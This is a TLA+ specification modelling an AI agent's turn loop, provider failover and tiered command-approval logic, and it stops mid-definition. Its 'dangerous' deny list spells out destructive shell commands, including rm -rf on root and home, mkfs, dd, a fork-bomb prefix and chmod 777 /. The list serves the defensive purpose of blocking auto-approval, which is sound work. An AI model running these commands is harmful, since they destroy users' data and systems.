---- MODULE Spec2Model ----
(***************************************************************************)
(* The agent turn loop of MRAgent (src/agents/core.py): chat() and its     *)
(* lock, _chat_unsafe, _agent_loop with the provider failover,             *)
(* _handle_streaming and _execute_tool_calls with the tiered approval      *)
(* logic, over the tool registry of src/tools/base.py.                     *)
(*                                                                         *)
(* Texts are strings; a command is the sequence of its whitespace          *)
(* separated tokens.  The conversation context is kept as the messages     *)
(* appended since the current round began (the loop only appends).         *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

(***************************************************************************)
(* Bounds of the model.                                                    *)
(***************************************************************************)
MaxTurns == 1          \* chat() calls made by one thread
MaxCalls == 2          \* tool invocations carried by one response
MaxStreamLen == 3      \* events of one stream (SpecStream)
MaxTurnStream == 2     \* events of one stream inside a turn
MaxToolRounds == 2     \* rounds with tool calls in a turn of SpecTools, SpecFailover
MaxObservers == 2      \* callbacks registered with on_response in SpecEmit

(***************************************************************************)
(* Program constants.                                                      *)
(***************************************************************************)
MAX_TOOL_ITERATIONS == 25

CUTOFF == "I've made too many tool calls in this turn. Let me give you what I have so far."

REJECTED == "Execution rejected by user."    \* after a cross mark

DEFAULT_PROVIDER == "nvidia_llm"

FALLBACK_MODEL == "llama-3.3-70b"

Threads == {"t1", "t2"}

NoThread == "none"

NoId == "absent"

NoText == "absent"

TrustLevels == {"cautious", "balanced", "autonomous"}

Models == {"deepseek-chat", "deepseek-reasoner", "llama-3.3-70b"}

\* DEEPSEEK_MODELS[m]["supports_tools"]; the entry of the fallback model is
\* read from the registry st, which src/ does not contain.
MODEL_REGISTRY(st) ==
    [m \in Models |->
        [supports_tools |-> CASE m = "deepseek-chat" -> TRUE
                              [] m = "deepseek-reasoner" -> FALSE
                              [] OTHER -> st]]

\* get_llm(model).name: the DeepSeek models are served by deepseek_llm,
\* every other model (and get_llm() without a model) by nvidia_llm.
get_llm(model) ==
    IF model \in {"deepseek-chat", "deepseek-reasoner"}
    THEN "deepseek_llm" ELSE DEFAULT_PROVIDER

GenIds == {"tc_g1", "tc_g2"}    \* values generate_id("tc_") may return

(***************************************************************************)
(* Text.  A command, a path or a pattern is the sequence of its            *)
(* characters, so that the substring, prefix and split operations of the   *)
(* code are computed as Python computes them.  The backquote is written    *)
(* BACKQUOTE.                                                              *)
(***************************************************************************)
UpperCase ==
    <<"A", "B", "C", "D", "E", "F", "G", "H", "I", "J", "K", "L", "M", "N",
      "O", "P", "Q", "R", "S", "T", "U", "V", "W", "X", "Y", "Z">>

LowerCase ==
    <<"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n",
      "o", "p", "q", "r", "s", "t", "u", "v", "w", "x", "y", "z">>

\* str.lower()
Lower(s) ==
    [i \in 1..Len(s) |->
        IF \E k \in 1..26 : UpperCase[k] = s[i]
        THEN LowerCase[CHOOSE k \in 1..26 : UpperCase[k] = s[i]]
        ELSE s[i]]

\* p in s
Contains(s, p) ==
    \E i \in 1..(Len(s) - Len(p) + 1) : SubSeq(s, i, i + Len(p) - 1) = p

\* s.startswith(p)
StartsWith(s, p) == Len(p) <= Len(s) /\ SubSeq(s, 1, Len(p)) = p

RECURSIVE LStripChars(_, _)
LStripChars(s, cs) ==
    IF s # <<>> /\ Head(s) \in cs THEN LStripChars(Tail(s), cs) ELSE s

RECURSIVE RStripChars(_, _)
RStripChars(s, cs) ==
    IF s # <<>> /\ s[Len(s)] \in cs
    THEN RStripChars(SubSeq(s, 1, Len(s) - 1), cs) ELSE s

\* s.strip(cs)
StripChars(s, cs) == RStripChars(LStripChars(s, cs), cs)

\* s.strip()
Strip(s) == StripChars(s, {" "})

\* s.split(): the maximal runs of non-blank characters
RECURSIVE SplitFrom(_, _, _)
SplitFrom(s, cur, acc) ==
    IF s = <<>> THEN (IF cur = <<>> THEN acc ELSE Append(acc, cur))
    ELSE IF Head(s) = " "
         THEN SplitFrom(Tail(s), <<>>, IF cur = <<>> THEN acc ELSE Append(acc, cur))
         ELSE SplitFrom(Tail(s), Append(cur, Head(s)), acc)

Split(s) == SplitFrom(s, <<>>, <<>>)

\* re.split(r'&&|;', cmd)
RECURSIVE SplitStepsFrom(_, _, _)
SplitStepsFrom(s, cur, acc) ==
    IF s = <<>> THEN Append(acc, cur)
    ELSE IF StartsWith(s, <<"&", "&">>)
         THEN SplitStepsFrom(SubSeq(s, 3, Len(s)), <<>>, Append(acc, cur))
    ELSE IF Head(s) = ";"
         THEN SplitStepsFrom(Tail(s), <<>>, Append(acc, cur))
    ELSE SplitStepsFrom(Tail(s), Append(cur, Head(s)), acc)

SplitSteps(s) == SplitStepsFrom(s, <<>>, <<>>)

\* p.split("/")
RECURSIVE SplitSlashFrom(_, _, _)
SplitSlashFrom(s, cur, acc) ==
    IF s = <<>> THEN Append(acc, cur)
    ELSE IF Head(s) = "/" THEN SplitSlashFrom(Tail(s), <<>>, Append(acc, cur))
    ELSE SplitSlashFrom(Tail(s), Append(cur, Head(s)), acc)

\* the components posixpath.normpath keeps: empty ones and "." are dropped,
\* ".." takes the last one back and stays at the root
RECURSIVE NormComps(_, _)
NormComps(comps, acc) ==
    IF comps = <<>> THEN acc
    ELSE IF Head(comps) \in {<<>>, <<".">>} THEN NormComps(Tail(comps), acc)
    ELSE IF Head(comps) = <<".", ".">>
         THEN NormComps(Tail(comps),
                        IF acc = <<>> THEN acc ELSE SubSeq(acc, 1, Len(acc) - 1))
    ELSE NormComps(Tail(comps), Append(acc, Head(comps)))

RECURSIVE JoinSlash(_)
JoinSlash(comps) ==
    IF comps = <<>> THEN <<>> ELSE <<"/">> \o Head(comps) \o JoinSlash(Tail(comps))

\* os.path.isabs(p)
isabs(p) == StartsWith(p, <<"/">>)

\* os.path.join(a, p)
pathjoin(a, p) ==
    IF isabs(p) THEN p
    ELSE IF a = <<>> \/ a[Len(a)] = "/" THEN a \o p
    ELSE a \o <<"/">> \o p

\* os.path.abspath(p), in a process whose working directory is getcwd
abspath(p, getcwd) ==
    LET comps == NormComps(SplitSlashFrom(pathjoin(getcwd, p), <<>>, <<>>), <<>>)
    IN IF comps = <<>> THEN <<"/">> ELSE JoinSlash(comps)

\* fnmatch.fnmatch(s, pat) for patterns made of characters, * and ?
RECURSIVE fnmatch(_, _)
fnmatch(s, pat) ==
    IF pat = <<>> THEN s = <<>>
    ELSE IF Head(pat) = "*"
         THEN fnmatch(s, Tail(pat)) \/ (s # <<>> /\ fnmatch(Tail(s), pat))
    ELSE IF s = <<>> THEN FALSE
    ELSE (Head(pat) = "?" \/ Head(pat) = Head(s)) /\ fnmatch(Tail(s), Tail(pat))

(***************************************************************************)
(* Exceptions, responses, outcomes.                                        *)
(***************************************************************************)
NoExc == [type |-> "none", from |-> "none"]

ProviderError(p) == [type |-> "ProviderError", from |-> p]

LoopError(ty) == [type |-> ty, from |-> "loop"]

NoResponse == [content |-> "", tool_calls |-> <<>>]

NoOutcome == [kind |-> "none", val |-> "", exc |-> NoExc]

Returned(text) == [kind |-> "returned", val |-> text, exc |-> NoExc]

Raised(e) == [kind |-> "raised", val |-> "", exc |-> e]

NoArgs ==
    [isdict |-> TRUE, named |-> FALSE, command |-> <<>>,
     working_directory |-> <<>>]

NoResult == "none"      \* Python None: no result yet / a tool returning None

(***************************************************************************)
(* Tool invocations as the model sends them.                               *)
(*   id   : a string, or NoId when the "id" key is missing                 *)
(*   name : function.name                                                  *)
(*   args : function.arguments, the serialized argument text:              *)
(*          "object" (a JSON object, with its command), "named" (a JSON    *)
(*          object with a key "name"), "invalid" (not JSON), "nonobject"   *)
(*          (JSON that is no object), "absent";                            *)
(*          command and working_directory are the values of those keys of  *)
(*          the object, empty when the key is missing                      *)
(***************************************************************************)
InvIn(id, name, kind, cmd, wd) ==
    [id |-> id, name |-> name,
     args |-> [kind |-> kind, command |-> cmd, working_directory |-> wd]]

Inv(id, name, kind, cmd) == InvIn(id, name, kind, cmd, <<>>)

RegisteredTools ==
    {"execute_terminal", "run_code", "read_file", "write_file", "move_file",
     "delete_file"}

\* json.loads(func_args_str) with the JSONDecodeError handler (core.py 306-314)
ParseArgs(a) ==
    CASE a.kind \in {"object", "named"} ->
              [isdict |-> TRUE, named |-> a.kind = "named",
               command |-> a.command,
               working_directory |-> a.working_directory]
      [] a.kind = "nonobject" ->
              [isdict |-> FALSE, named |-> FALSE, command |-> <<>>,
               working_directory |-> <<>>]
      [] OTHER                -> NoArgs

(***************************************************************************)
(* The approval helpers of _execute_tool_calls.                            *)
(***************************************************************************)
NoDir == <<>>       \* no directory: None or the empty string, both falsy

HomeDir == <<"/", "h", "o", "m", "e", "/", "u">>     \* what ~ expands to

unsafe_patterns ==
    {<<"&", "&">>, <<"|", "|">>, <<";">>, <<"|">>, <<">">>, <<"<">>,
      <<"BACKQUOTE">>, <<"$", "(">>}

safe_cmds ==
    {<<"l", "s">>, <<"p", "w", "d">>, <<"e", "c", "h", "o">>, <<"c", "a",
      "t">>, <<"g", "i", "t", " ", "s", "t", "a", "t", "u", "s">>, <<"g", "i",
      "t", " ", "l", "o", "g">>, <<"g", "i", "t", " ", "d", "i", "f", "f">>,
      <<"g", "r", "e", "p">>, <<"f", "i", "n", "d">>, <<"w", "h", "i", "c",
      "h">>, <<"w", "h", "o", "a", "m", "i">>, <<"d", "a", "t", "e">>, <<"t",
      "r", "e", "e">>, <<"h", "e", "a", "d">>, <<"t", "a", "i", "l">>, <<"l",
      "e", "s", "s">>}

NeverSafe(cmd) == FALSE

SafeByBaseCommand(cmd) ==
    cmd # <<>> /\ Strip(cmd) # <<>> /\ Split(cmd)[1] \in safe_cmds

is_safe_command(cmd) ==
    IF cmd = <<>> THEN FALSE
    ELSE IF \E p \in unsafe_patterns : Contains(cmd, p) THEN FALSE
    ELSE LET words == Split(cmd)
             base_cmd == IF Strip(cmd) # <<>> THEN words[1] ELSE <<>>
         IN IF Len(words) >= 2 /\ (words[1] \o <<" ">> \o words[2]) \in safe_cmds
            THEN TRUE
            ELSE base_cmd \in safe_cmds

\* AUTONOMY_SETTINGS.get("auto_approve_patterns", []) matched with fnmatch
matches_auto_approve(cmd, patterns) ==
    IF cmd = <<>> THEN FALSE ELSE \E p \in patterns : fnmatch(Strip(cmd), p)

NothingDangerous == {}

\* core.py 369-371
dangerous ==
    {<<"r", "m", " ", "-", "r", "f", " ", "/">>, <<"r", "m", " ", "-", "r",
      "f", " ", "/", "*">>, <<"s", "u", "d", "o", " ">>, <<"s", "h", "u", "t",
      "d", "o", "w", "n">>, <<"r", "e", "b", "o", "o", "t">>, <<"m", "k", "f",
      "s">>, <<"d", "d", " ", "i", "f", "=">>, <<":", "(", ")", "{">>, <<"h",
      "a", "l", "t">>, <<"c", "h", "m", "o", "d", " ", "7", "7", "7", " ",
      "/">>, <<"r", "m", " ", "-", "r", "f", " ", "~">>, <<"r", "m", " ", "-",
      "r", "f", " ", "$", "H", "O", "M", "E">>}

\* os.path.expanduser for ~ and ~/...
expanduser(p) ==
    IF p = <<"~">> \/ StartsWith(p, <<"~", "/">>) THEN HomeDir \o Tail(p) ELSE p

CdIgnored(parts, resolved_cwd, getcwd) == resolved_cwd

\* the loop over the steps of a compound command (core.py 384-394): every
\* step that starts with "cd " moves resolved_cwd
RECURSIVE CdSteps(_, _, _)
CdSteps(parts, resolved_cwd, getcwd) ==
    IF parts = <<>> THEN resolved_cwd
    ELSE LET part == Strip(Head(parts)) IN
         IF StartsWith(part, <<"c", "d", " ">>)
         THEN LET cd_target ==
                      StripChars(StripChars(Strip(SubSeq(part, 4, Len(part))),
                                            {"\""}), {"'"})
              IN CdSteps(Tail(parts),
                         IF isabs(cd_target) THEN abspath(cd_target, getcwd)
                         ELSE IF StartsWith(cd_target, <<"~">>)
                              THEN abspath(expanduser(cd_target), getcwd)
                         ELSE abspath(pathjoin(resolved_cwd, cd_target), getcwd),
                         getcwd)
         ELSE CdSteps(Tail(parts), resolved_cwd, getcwd)

\* re.findall(r'(?:^|\s)(/[^\s]+)', cmd): the words that start with a slash
\* and have a character after it
abs_paths(cmd) ==
    LET words == Split(cmd) IN
    {words[i] : i \in {j \in 1..Len(words) :
                          Head(words[j]) = "/" /\ Len(words[j]) >= 2}}

\* is_auto_approved (core.py 360-408), in a process whose working directory
\* is getcwd
is_auto_approved(cmd, working_dir, settings, getcwd) ==
    IF ~settings.auto_session_active THEN FALSE
    ELSE IF settings.auto_directory = NoDir THEN FALSE
    ELSE IF \E d \in dangerous : Contains(Strip(Lower(cmd)), d) THEN FALSE
    ELSE LET auto_dir_resolved == abspath(settings.auto_directory, getcwd)
             start == IF working_dir # NoDir THEN abspath(working_dir, getcwd)
                      ELSE getcwd
             resolved_cwd == CdSteps(SplitSteps(cmd), start, getcwd)
         IN IF ~StartsWith(resolved_cwd, auto_dir_resolved) THEN FALSE
            ELSE \A p \in abs_paths(cmd) :
                     StartsWith(abspath(p, getcwd), auto_dir_resolved)

(***************************************************************************)
(* The tiered approval logic (core.py 410-460) for one invocation:         *)
(*   "raise"       func_args.get fails on arguments that are no mapping    *)
(*   "auto_logged" autonomous: runs, after an 'info' event                 *)
(*   "auto_scope"  granted by the /auto scope: runs, after an 'info' event *)
(*   "auto"        runs                                                    *)
(*   "ask_notify"  approval_required, pending notification, callback      *)
(*   "ask"         approval_required, callback                             *)
(***************************************************************************)
AlwaysAsk(hasCb, how) == how

\* if self.approval_callback: ... else the invocation goes on
AskOrProceed(hasCb, how) == IF hasCb THEN how ELSE "auto"

\* core.py 419-438
BalancedTerminal(fa, hasCb, settings, getcwd) ==
    IF is_auto_approved(fa.command, fa.working_directory, settings, getcwd)
    THEN "auto_scope"
    ELSE IF /\ ~is_safe_command(fa.command)
            /\ ~matches_auto_approve(fa.command, settings.auto_approve_patterns)
         THEN AskOrProceed(hasCb, "ask_notify")
    ELSE "auto"

CautiousLikeBalanced(fa, hasCb, settings, getcwd) ==
    BalancedTerminal(fa, hasCb, settings, getcwd)

\* core.py 440-447
CautiousTerminal(fa, hasCb, settings, getcwd) ==
    IF ~is_safe_command(fa.command) THEN AskOrProceed(hasCb, "ask") ELSE "auto"

PolicyCodeAsksUnlessAutonomous(name, fa, trust, hasCb, settings, getcwd) ==
    CASE name = "execute_terminal" ->
            IF ~fa.isdict THEN "raise"
            ELSE IF trust = "autonomous" THEN "auto_logged"
            ELSE IF trust = "balanced"
                 THEN BalancedTerminal(fa, hasCb, settings, getcwd)
            ELSE CautiousTerminal(fa, hasCb, settings, getcwd)
      [] name = "run_code" ->
            IF trust = "autonomous" THEN "auto_logged"
            ELSE IF hasCb THEN (IF ~fa.isdict THEN "raise" ELSE "ask")
            ELSE "auto"
      [] OTHER -> "auto"

PolicyWithoutAutonomous(name, fa, trust, hasCb, settings, getcwd) ==
    CASE name = "execute_terminal" ->
            IF ~fa.isdict THEN "raise"
            ELSE IF trust = "cautious"
                 THEN CautiousTerminal(fa, hasCb, settings, getcwd)
            ELSE BalancedTerminal(fa, hasCb, settings, getcwd)
      [] name = "run_code" ->
            IF trust # "balanced" /\ hasCb THEN
                (IF ~fa.isdict THEN "raise" ELSE "ask")
            ELSE "auto"
      [] OTHER -> "auto"

Policy(name, fa, trust, hasCb, settings, getcwd) ==
    CASE name = "execute_terminal" ->
            IF ~fa.isdict THEN "raise"
            ELSE IF trust = "autonomous" THEN "auto_logged"
            ELSE IF trust = "balanced"
                 THEN BalancedTerminal(fa, hasCb, settings, getcwd)
            ELSE CautiousTerminal(fa, hasCb, settings, getcwd)
      [] name = "run_code" ->
            IF trust = "autonomous" THEN "auto_logged"
            ELSE IF trust = "cautious" /\ hasCb THEN
                (IF ~fa.isdict THEN "raise" ELSE "ask")
            ELSE "auto"
      [] OTHER -> "auto"

(***************************************************************************)
(* State.                                                                  *)
(***************************************************************************)
VARIABLES
    lock,               \* AgentCore._lock: the thread that holds it, or NoThread
    pc,                 \* where each thread stands in chat()
    loc,                \* the locals of each thread's turn, with its history
    ret,                \* what each thread's last chat() call gave its caller
    turns,              \* chat() calls each thread has made
    context,            \* context_manager: messages appended since the round began
    observers,          \* _response_callbacks, with what each has been handed
    notifier,           \* the pending-approval notifications and their threads
    AUTONOMY_SETTINGS,  \* config.settings.AUTONOMY_SETTINGS
    approval_callback,  \* AgentCore.approval_callback is set
    registry,           \* config.settings.MODEL_REGISTRY
    cwd                 \* os.getcwd(): the working directory of the process

vars == <<lock, pc, loc, ret, turns, context, AUTONOMY_SETTINGS,
          approval_callback, registry, cwd, observers, notifier>>

Msg(role, by, ids, content) ==
    [role |-> role, by |-> by, ids |-> ids, content |-> content]

Ev(type, data) == [type |-> type, data |-> data]

Call(provider, model, tools, messages) ==
    [provider |-> provider, model |-> model, tools |-> tools, messages |-> messages]

NoMessages == [round |-> 0, include_tools |-> FALSE]

(***************************************************************************)
(* The observers (core.py 69-79).  Each registered callback is kept with   *)
(* what calling it does (it returns, "none", or it raises an Exception)    *)
(* and with the events it has been called with since the round began.      *)
(* escaped tells that an exception has left _emit.                         *)
(***************************************************************************)
NoObservers == [callbacks |-> <<>>, escaped |-> FALSE]

Observer(raises) == [raises |-> raises, received |-> <<>>]

NeverCaught(raised) == FALSE

\* except Exception: pass (core.py 78-79)
Caught(raised) == raised = "Exception"

\* for cb in self._response_callbacks: try: cb(event_type, data)
RECURSIVE EmitFrom(_, _, _)
EmitFrom(obs, i, ev) ==
    IF i > Len(obs.callbacks) THEN obs
    ELSE LET called == [obs EXCEPT !.callbacks[i].received = Append(@, ev)]
             raised == obs.callbacks[i].raises
         IN IF raised # "none" /\ ~Caught(raised)
            THEN [called EXCEPT !.escaped = TRUE]
            ELSE EmitFrom(called, i + 1, ev)

emit(obs, ev) == EmitFrom(obs, 1, ev)

RECURSIVE EmitAll(_, _)
EmitAll(obs, evs) ==
    IF evs = <<>> THEN obs ELSE EmitAll(emit(obs, Head(evs)), Tail(evs))

\* the observers at the start of a round: nothing received yet
NewRound(obs) ==
    [obs EXCEPT !.callbacks =
        [i \in DOMAIN obs.callbacks |->
            [obs.callbacks[i] EXCEPT !.received = <<>>]]]

\* every event a step of thread t adds to the round's events is emitted
Emitted(t) ==
    LET old == loc[t].events
        new == loc'[t].events
    IN observers' =
         IF Len(new) >= Len(old) /\ SubSeq(new, 1, Len(old)) = old
         THEN EmitAll(observers, SubSeq(new, Len(old) + 1, Len(new)))
         ELSE EmitAll(NewRound(observers), new)

(***************************************************************************)
(* The pending-approval notification (core.py 526-555): whether it is      *)
(* enabled (notify_on_pending and a bot token), and the threads started    *)
(* for it since the round began, each "running", "sent" or "failed".       *)
(***************************************************************************)
Notifier(enabled) == [enabled |-> enabled, threads |-> <<>>]

\* only the balanced branch calls _notify_pending_approval (core.py 431)
Notifies(decision) == decision = "ask_notify"

\* threading.Thread(target=_send, daemon=True).start() (core.py 553)
notify_pending_approval(n) ==
    IF n.enabled THEN [n EXCEPT !.threads = Append(@, "running")] ELSE n

JoinsRunning(n) == {i \in DOMAIN n.threads : n.threads[i] = "running"}

\* the threads the turn waits for before it invokes the callback: the
\* thread is started and never joined (core.py 553, 432)
Joined(n) == {}

\* what a turn has appended to the context so far: each message's role and
\* the number of tool calls it carries
Added(role, n) == [role |-> role, tool_calls |-> n]

InitLoc ==
    [stream |-> FALSE, model |-> "", llm |-> "", supports_tools |-> FALSE,
     tools_schema |-> FALSE, iteration |-> 0, messages |-> NoMessages,
     inHandler |-> FALSE, exc |-> NoExc,
     full_content |-> "", tool_calls |-> <<>>, consumed |-> <<>>,
     response |-> NoResponse, trust_level |-> "", idx |-> 0,
     tc_id |-> "", func_args |-> NoArgs, result |-> NoResult,
     calls |-> <<>>, events |-> <<>>, finals |-> 0, rounds |-> 0,
     dispatched |-> 0, asked |-> FALSE, approved |-> "none", ran |-> FALSE,
     decisions |-> <<>>, trust_changed |-> 0, scope_changed |-> 0,
     appended |-> <<>>, notified |-> FALSE, outcome |-> NoOutcome]

\* The agent after construction (core.py 44-67), with the trust level the
\* settings hold and the approval callback the user interface registered.
\* no /auto session (ui/cli.py 661-664)
NoScope == [auto_session_active |-> FALSE, auto_directory |-> NoDir]

\* /auto dir (ui/cli.py 672-673)
Scope(dir) == [auto_session_active |-> TRUE, auto_directory |-> dir]

InitAgent(trusts, callbacks, scopes, patterns, dirs, sts) ==
    /\ lock = NoThread
    /\ pc = [t \in Threads |-> "idle"]
    /\ loc = [t \in Threads |-> InitLoc]
    /\ ret = [t \in Threads |-> NoOutcome]
    /\ turns = [t \in Threads |-> 0]
    /\ context = <<>>
    /\ \E tl \in trusts, sc \in scopes, ps \in patterns :
         AUTONOMY_SETTINGS =
           [trust_level |-> tl, auto_session_active |-> sc.auto_session_active,
            auto_directory |-> sc.auto_directory, auto_approve_patterns |-> ps]
    /\ approval_callback \in callbacks
    /\ \E st \in sts : registry = MODEL_REGISTRY(st)
    /\ cwd \in dirs
    /\ observers = NoObservers

\* notify_on_pending is off unless the settings turn it on (core.py 529)
InitEnv(trusts, callbacks, scopes, patterns, dirs, sts) ==
    /\ InitAgent(trusts, callbacks, scopes, patterns, dirs, sts)
    /\ notifier = Notifier(FALSE)

InitWith(trusts, callbacks) ==
    InitEnv(trusts, callbacks, {NoScope}, {{}}, {HomeDir}, BOOLEAN)

\* the defaults: balanced trust (core.py 302), no callback (core.py 57)
Init == InitWith({"balanced"}, {FALSE})

(***************************************************************************)
(* chat(): a caller asks for a turn (core.py 81-87, up to the lock).       *)
(***************************************************************************)
ChatCall(t, streams) ==
    /\ pc[t] = "idle"
    /\ turns[t] < MaxTurns
    /\ \E s \in streams :
         loc' = [loc EXCEPT ![t] = [InitLoc EXCEPT !.stream = s]]
    /\ pc' = [pc EXCEPT ![t] = "acquire"]
    /\ turns' = [turns EXCEPT ![t] = @ + 1]
    /\ ret' = [ret EXCEPT ![t] = NoOutcome]
    /\ UNCHANGED <<lock, context, AUTONOMY_SETTINGS, approval_callback, registry, cwd,
                   observers, notifier>>

(***************************************************************************)
(* with self._lock: then _chat_unsafe up to the start of the loop: the     *)
(* user message is appended, the model selected and announced, and         *)
(* _agent_loop sets up llm, supports_tools and tools_schema                *)
(* (core.py 87-173).                                                       *)
(***************************************************************************)
AcquireAnyway(holder) == TRUE

\* threading.Lock: acquired only while no thread holds it
LockFree(holder) == holder = NoThread

Acquire(t, models) ==
    /\ pc[t] = "acquire"
    /\ LockFree(lock)
    /\ lock' = t
    /\ \E m \in models :
         loc' = [loc EXCEPT ![t] =
                   [@ EXCEPT !.model = m,
                             !.llm = get_llm(m),
                             !.supports_tools = registry[m].supports_tools,
                             !.tools_schema = registry[m].supports_tools,
                             !.events = <<Ev("model", m)>>,
                             !.appended = <<Added("user", 0)>>]]
    /\ context' = <<Msg("user", t, <<>>, "user")>>
    /\ pc' = [pc EXCEPT ![t] = "loop"]
    /\ UNCHANGED <<ret, turns, AUTONOMY_SETTINGS, approval_callback, registry, cwd,
                   notifier>>
    /\ Emitted(t)

(***************************************************************************)
(* The head of the for loop (core.py 176-192): while rounds are left the   *)
(* messages are fetched and the request is sent to the provider; after     *)
(* MAX_TOOL_ITERATIONS rounds the loop falls through to the cutoff return  *)
(* (core.py 238-240).  The locals of the round before, and of its          *)
(* _execute_tool_calls, are gone.                                          *)
(***************************************************************************)
RoundStart(t) ==
    /\ pc[t] = "loop"
    /\ LET l == loc[t] IN
       IF l.iteration < MAX_TOOL_ITERATIONS
       THEN LET msgs == [round |-> l.iteration + 1,
                         include_tools |-> l.supports_tools] IN
            /\ loc' = [loc EXCEPT ![t] =
                  [l EXCEPT !.iteration = @ + 1,
                            !.messages = msgs,
                            !.calls = <<Call(l.llm, l.model, l.tools_schema, msgs)>>,
                            !.events = <<>>,
                            !.full_content = "", !.tool_calls = <<>>,
                            !.consumed = <<>>,
                            !.inHandler = FALSE, !.exc = NoExc,
                            !.response = NoResponse, !.trust_level = "",
                            !.idx = 0, !.tc_id = "", !.func_args = NoArgs,
                            !.result = NoResult, !.asked = FALSE,
                            !.approved = "none", !.ran = FALSE,
                            !.decisions = <<>>]]
            /\ pc' = [pc EXCEPT ![t] = IF l.stream THEN "stream" ELSE "call"]
            /\ context' = <<>>
       ELSE /\ loc' = [loc EXCEPT ![t] = [l EXCEPT !.outcome = Returned(CUTOFF)]]
            /\ pc' = [pc EXCEPT ![t] = "store"]
            /\ UNCHANGED context
    /\ UNCHANGED <<lock, ret, turns, AUTONOMY_SETTINGS, approval_callback, registry, cwd>>
    /\ notifier' = [notifier EXCEPT !.threads = <<>>]
    /\ Emitted(t)

\* whether the request in flight carried the tool schema
ToolsOffered(l) == l.calls[Len(l.calls)].tools

(***************************************************************************)
(* llm.chat(stream=False) returns a response (core.py 186-192, 217-223).   *)
(* A model that was offered no tools answers with text only.               *)
(***************************************************************************)
Respond(t, responses, maxToolRounds) ==
    /\ pc[t] = "call"
    /\ \E r \in responses :
         /\ r.tool_calls # <<>> => ToolsOffered(loc[t]) /\ loc[t].rounds < maxToolRounds
         /\ loc' = [loc EXCEPT ![t] = [@ EXCEPT !.response = r, !.inHandler = FALSE]]
    /\ pc' = [pc EXCEPT ![t] = "resp"]
    /\ UNCHANGED <<lock, ret, turns, context, AUTONOMY_SETTINGS, approval_callback,
                   registry, cwd,
                   observers, notifier>>

(***************************************************************************)
(* The provider raises: from llm.chat or while its stream is consumed.     *)
(* In the try block the handler of core.py 193 takes over; inside the      *)
(* handler (the fallback's call) nothing catches it and it leaves the      *)
(* loop, _chat_unsafe and chat().                                          *)
(***************************************************************************)
\* the exception that leaves the handler when the fallback's call raises
\* (core.py 214-223): the one that call raised
RaisedInHandler(l) == ProviderError(l.llm)

ProviderRaise(t) ==
    /\ pc[t] \in {"call", "stream"}
    /\ LET l == loc[t] IN
       IF l.inHandler
       THEN /\ loc' = [loc EXCEPT ![t] =
                         [l EXCEPT !.outcome = Raised(RaisedInHandler(l))]]
            /\ pc' = [pc EXCEPT ![t] = "exit"]
       ELSE /\ loc' = [loc EXCEPT ![t] = [l EXCEPT !.exc = ProviderError(l.llm)]]
            /\ pc' = [pc EXCEPT ![t] = "except"]
    /\ UNCHANGED <<lock, ret, turns, context, AUTONOMY_SETTINGS, approval_callback,
                   registry, cwd,
                   observers, notifier>>

(***************************************************************************)
(* except Exception as e (core.py 193-225): a provider other than          *)
(* nvidia_llm is replaced by the NVIDIA provider and the same messages are *)
(* sent again with the fallback model; a failure of nvidia_llm is          *)
(* re-raised.  The local `model` keeps its value.                          *)
(***************************************************************************)
FallbackKeepingSchema(l, st) ==
    [l EXCEPT !.events = Append(@, Ev("info", "failover")),
              !.llm = get_llm(""),
              !.supports_tools = st,
              !.inHandler = TRUE,
              !.calls = Append(@, Call(get_llm(""), FALLBACK_MODEL, l.tools_schema,
                                       l.messages)),
              !.full_content = "", !.tool_calls = <<>>, !.consumed = <<>>]

Fallback(l, st) ==
    [l EXCEPT !.events = Append(@, Ev("info", "failover")),
              !.llm = get_llm(""),
              !.supports_tools = st,
              !.tools_schema = st,
              !.inHandler = TRUE,
              !.calls = Append(@, Call(get_llm(""), FALLBACK_MODEL, st, l.messages)),
              !.full_content = "", !.tool_calls = <<>>, !.consumed = <<>>]

AlwaysFallsBack(provider_name) == TRUE

\* if provider_name != "nvidia_llm" (core.py 196-197)
FallsBack(provider_name) == provider_name # "nvidia_llm"

HandleFailure(t) ==
    /\ pc[t] = "except"
    /\ LET l == loc[t]
           provider_name == l.llm
       IN
       IF FallsBack(provider_name)
       THEN /\ loc' = [loc EXCEPT ![t] =
                         Fallback(l, registry[FALLBACK_MODEL].supports_tools)]
            /\ pc' = [pc EXCEPT ![t] = IF l.stream THEN "stream" ELSE "call"]
       ELSE /\ loc' = [loc EXCEPT ![t] = [l EXCEPT !.outcome = Raised(l.exc)]]
            /\ pc' = [pc EXCEPT ![t] = "exit"]
    /\ UNCHANGED <<lock, ret, turns, context, AUTONOMY_SETTINGS, approval_callback,
                   registry, cwd,
                   notifier>>
    /\ Emitted(t)

(***************************************************************************)
(* _handle_streaming's loop body for one chunk (core.py 256-271).  A       *)
(* finish event is the last event of a stream (deepseek_llm.py 210-220).   *)
(***************************************************************************)
ContentEv(d) == [type |-> "content", delta |-> d, full_content |-> NoText,
                 tool_calls |-> <<>>]

ToolCallsEv(tcs) == [type |-> "tool_calls", delta |-> "", full_content |-> NoText,
                     tool_calls |-> tcs]

FinishEv(text, tcs) == [type |-> "finish", delta |-> "", full_content |-> text,
                        tool_calls |-> tcs]

Finished(consumed) ==
    consumed # <<>> /\ consumed[Len(consumed)].type = "finish"

AggregateKeepingLocalText(l, chunk) ==
    CASE chunk.type = "content" ->
           [l EXCEPT !.full_content = @ \o chunk.delta,
                     !.events = Append(@, Ev("delta", chunk.delta)),
                     !.consumed = Append(@, chunk)]
      [] chunk.type = "tool_calls" ->
           [l EXCEPT !.tool_calls = chunk.tool_calls,
                     !.events = Append(@, Ev("tool_calls", "")),
                     !.consumed = Append(@, chunk)]
      [] OTHER ->
           [l EXCEPT !.tool_calls = IF l.tool_calls = <<>>
                                    THEN chunk.tool_calls ELSE @,
                     !.consumed = Append(@, chunk)]

AggregateBuffering(l, chunk) ==
    CASE chunk.type = "content" ->
           [l EXCEPT !.full_content = @ \o chunk.delta,
                     !.consumed = Append(@, chunk)]
      [] chunk.type = "tool_calls" ->
           [l EXCEPT !.tool_calls = chunk.tool_calls,
                     !.events = Append(@, Ev("tool_calls", "")),
                     !.consumed = Append(@, chunk)]
      [] OTHER ->
           [l EXCEPT !.full_content = IF chunk.full_content # NoText
                                      THEN chunk.full_content ELSE @,
                     !.tool_calls = IF l.tool_calls = <<>>
                                    THEN chunk.tool_calls ELSE @,
                     !.events = Append(@, Ev("delta", l.full_content)),
                     !.consumed = Append(@, chunk)]

\* what one chunk does to full_content, tool_calls and the observers
Aggregate(l, chunk) ==
